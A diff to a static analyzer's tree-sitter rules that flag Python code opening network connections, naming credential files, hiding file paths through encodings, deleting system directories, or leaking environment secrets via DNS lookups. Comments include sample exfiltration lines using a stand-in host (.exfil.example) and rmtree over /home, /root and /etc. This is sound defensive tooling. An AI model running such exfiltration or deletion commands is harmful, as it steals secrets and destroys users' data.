@@ -27,16 +27,37 @@
  (#set! message "loads a shared library into SQLite (load_extension), native code that bypasses everything Python checks"))
 
 ((call function: (_) @fn) @finding
- (#resolves-to? @fn "socket\\.(socket|create_connection|create_server|socketpair|fromfd)|urllib\\.request\\.(urlopen|urlretrieve|Request)|urllib3\\..*|http\\.client\\.HTTPS?Connection|requests\\.(get|post|put|patch|delete|head|request|Session)|httpx\\..*|aiohttp\\..*|asyncio\\.open_(connection|unix_connection)|(ftplib|smtplib|telnetlib|poplib|imaplib|xmlrpc\\.client)\\..*|paramiko\\..*|urllib\\.request\\.(build_opener|OpenerDirector)|logging\\.handlers\\.(HTTPHandler|SocketHandler|DatagramHandler|SMTPHandler|SysLogHandler)|multiprocessing\\.connection\\.Client")
+ (#resolves-to? @fn "socket\\.(socket|create_connection|create_server|socketpair|fromfd)|urllib\\.request\\.(urlopen|urlretrieve|Request)|urllib3\\..*|http\\.client\\.HTTPS?Connection|requests\\.(get|post|put|patch|delete|head|request|Session)|httpx\\..*|aiohttp\\..*|asyncio\\.open_(connection|unix_connection)|(ftplib|smtplib|telnetlib|poplib|imaplib|xmlrpc\\.client)\\..*|paramiko\\..*|urllib\\.request\\.(build_opener|OpenerDirector)|logging\\.handlers\\.(HTTPHandler|SocketHandler|DatagramHandler|SMTPHandler|SysLogHandler)|multiprocessing\\.connection\\.Client|http\\.server\\.(HTTPServer|ThreadingHTTPServer)|_socket\\.(socket|socketpair|fromfd)|ssl\\.(create_connection|wrap_socket|SSLSocket)|asyncio\\.(get_running_loop|get_event_loop|new_event_loop)\\(\\)\\.(create_connection|create_datagram_endpoint|create_unix_connection|sock_connect|create_server)|webbrowser\\.(open|open_new|open_new_tab)|multiprocessing\\.managers\\.(BaseManager|SyncManager)|socketserver\\.(TCPServer|ThreadingTCPServer|UDPServer|ThreadingUDPServer|ForkingTCPServer)|xmlrpc\\.server\\..*|asyncio\\.start_server|wsgiref\\.simple_server\\.make_server")
  (#set! id "py-network")
  (#set! severity "warn")
  (#set! message "opens a network connection"))
 
 ([(string) (concatenated_string) (binary_operator) (call)] @finding
- (#value-match? @finding "(^|/)\\.ssh(/|$)|(^|/)\\.aws(/|$)|/etc/(shadow|gshadow|sudoers|master\\.passwd)|(^|/)\\.(netrc|pgpass|git-credentials|npmrc|pypirc)$|\\.docker/config\\.json|\\.kube/config|(^|/)\\.gnupg(/|$)|/proc/(self|[0-9]+)/environ|(^|/)id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?$|\\.config/gcloud|(^|/)\\.azure(/|$)|/var/run/secrets|/run/secrets|(^|/)\\.[^/]*/credentials(\\.json)?$|\\.config/(gh|hub)/hosts\\.yml|(^|/)\\.(vault-token|s3cfg|boto|my\\.cnf)$|\\.(cargo|gem|terraform\\.d)/credentials|\\.config/rclone/|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|discord|Signal)(/|$)|\\.mozilla/firefox|(^|/)(Login Data|logins\\.json|key[34]\\.db|cookies\\.sqlite|Local State|wallet\\.dat)$|(^|/)\\.(bitcoin|electrum|ethereum/keystore)(/|$)|\\.config/solana/id\\.json")
+ (#value-match? @finding "(^|/)\\.ssh(/|$)|(^|/)\\.aws(/|$)|/etc/(shadow|gshadow|sudoers|master\\.passwd)|(^|/)\\.(netrc|pgpass|git-credentials|npmrc|pypirc)$|\\.docker/config\\.json|\\.kube/config|(^|/)\\.gnupg(/|$)|/proc/(self|[0-9]+)/environ|(^|/)id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?$|(^|/)id_[*?]$|\\.config/gcloud|(^|/)\\.azure(/|$)|/var/run/secrets|/run/secrets|(^|/)\\.[^/]*/credentials(\\.json)?$|\\.config/(gh|hub)/hosts\\.yml|(^|/)\\.(vault-token|s3cfg|boto|my\\.cnf)$|\\.(cargo|gem|terraform\\.d)/credentials|\\.config/rclone/|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|discord|Signal)(/|$)|\\.mozilla/firefox|(^|/)(Login Data|logins\\.json|key[34]\\.db|cookies\\.sqlite|Local State|wallet\\.dat)$|(^|/)\\.(bitcoin|electrum|ethereum/keystore)(/|$)|\\.config/solana/id\\.json")
  (#set! id "py-credentials")
  (#set! severity "high")
  (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
+
+; a file named through a decoder: open(bytes.fromhex("7e2f2e737368...").decode()),
+; Path.home() / codecs.decode(".njf", "rot13"), rmtree of "".join(chr(c) for
+; c in [...]): the name is hidden on purpose, so what is read, written or
+; deleted was not checked (an ordinary program spells its file names;
+; encoding one, base64.urlsafe_b64encode for a cache key, is not decoding)
+((call
+   function: (_) @fn
+   arguments: (argument_list . (_) @path)) @finding
+ (#resolves-to? @fn "builtins\\.open|io\\.open|os\\.(open|remove|unlink|rmdir|removedirs|listdir|scandir|walk|path\\.expanduser|path\\.join)|codecs\\.open|pathlib\\.(Pure)?(Posix)?Path|shutil\\.(copy|copy2|copyfile|copytree|copyfileobj|rmtree|move|make_archive)|glob\\.i?glob|tarfile\\.open|zipfile\\.ZipFile|linecache\\.get(line|lines)|fileinput\\.input")
+ (#contains-call? @path "builtins\\.(bytes|bytearray)\\.fromhex|binascii\\.(unhexlify|a2b_.*)|base64\\.(b16decode|b32decode|b32hexdecode|b64decode|standard_b64decode|urlsafe_b64decode|b85decode|a85decode|decodebytes)|codecs\\.(decode|encode)|builtins\\.(chr|bytes|bytearray|reversed)|(zlib|bz2|lzma|gzip)\\.decompress")
+ (#set! id "py-hidden-path")
+ (#set! severity "high")
+ (#set! message "opens, lists or deletes a file whose name is hidden by an encoding (hex, base32, rot13, character codes): what it touches was not checked"))
+
+((call function: (attribute object: (_) @path attribute: (identifier) @m)) @finding
+ (#any-of? @m "read_bytes" "read_text" "open" "write_bytes" "write_text" "unlink" "rmdir" "iterdir" "glob" "rglob" "rename" "replace")
+ (#contains-call? @path "builtins\\.(bytes|bytearray)\\.fromhex|binascii\\.(unhexlify|a2b_.*)|base64\\.(b16decode|b32decode|b32hexdecode|b64decode|standard_b64decode|urlsafe_b64decode|b85decode|a85decode|decodebytes)|codecs\\.(decode|encode)|builtins\\.(chr|bytes|bytearray|reversed)|(zlib|bz2|lzma|gzip)\\.decompress")
+ (#set! id "py-hidden-path")
+ (#set! severity "high")
+ (#set! message "opens, lists or deletes a file whose name is hidden by an encoding (hex, base32, rot13, character codes): what it touches was not checked"))
 
 ; A project's .env: loading it into the program's settings is ordinary; with
 ; the network in the same program it is the secrets sent out (analyze.c
@@ -173,7 +194,7 @@
    body: (_) @body) @finding
  (#any-of? @m "rglob" "walk" "glob" "iterdir")
  (#value-match? @root "^(/|~|/(bin|boot|etc|home|lib|opt|root|usr|var))/?$")
- (#match? @body "(^|[^A-Za-z0-9_])(unlink|rmdir|remove|removedirs|rmtree|move|rename)\\s*\\(|os\\.replace\\s*\\(")
+ (#match? @body "(^|[^A-Za-z0-9_])(unlink|rmdir|remove|removedirs|rmtree|move|rename)[\\s)]*\\(|os\\.replace\\s*\\(")
  (#set! id "py-destructive")
  (#set! severity "high")
  (#set! message "deletes or moves away the files of a whole system or home directory, one by one"))
@@ -184,7 +205,7 @@
    body: (_) @body) @finding
  (#resolves-to? @fn "os\\.(walk|fwalk|scandir|listdir)|glob\\.i?glob")
  (#value-match? @root "^(/|~|/(bin|boot|etc|home|lib|opt|root|usr|var))(/\\*\\*?)*/?$")
- (#match? @body "(^|[^A-Za-z0-9_])(unlink|rmdir|remove|removedirs|rmtree|move|rename)\\s*\\(|os\\.replace\\s*\\(")
+ (#match? @body "(^|[^A-Za-z0-9_])(unlink|rmdir|remove|removedirs|rmtree|move|rename)[\\s)]*\\(|os\\.replace\\s*\\(")
  (#set! id "py-destructive")
  (#set! severity "high")
  (#set! message "deletes or moves away the files of a whole system or home directory, one by one"))
@@ -198,6 +219,18 @@
  (#set! id "py-dns-exfil")
  (#set! severity "high")
  (#set! message "puts a value of the environment into a host name it looks up: a secret sent out through DNS"))
+
+; subprocess.run(["nslookup", os.environ["KEY"] + ".exfil.example"]): the
+; same through a program that looks a name up (nslookup, dig, host, ping)
+((call
+   function: (_) @fn
+   arguments: (argument_list) @cmd) @finding
+ (#match? @cmd "environ|getenv")
+ (#resolves-to? @fn "subprocess\\.(run|call|check_call|check_output|Popen)|asyncio\\.create_subprocess_exec|os\\.(exec[lv]p?e?|spawn[lv]p?e?|posix_spawnp?)")
+ (#value-match? @cmd "^'?(\\S*/)?(nslookup|dig|host|drill|ping|ping6|getent|traceroute|curl|wget)'? ")
+ (#set! id "py-dns-exfil")
+ (#set! severity "high")
+ (#set! message "puts a value of the environment into the command line of a program that looks a name up or connects: a secret sent out"))
 
 ; for d in ("/home", "/root", "/etc"): shutil.rmtree(d): system or home
 ; directories named in the loop's own list, each deleted
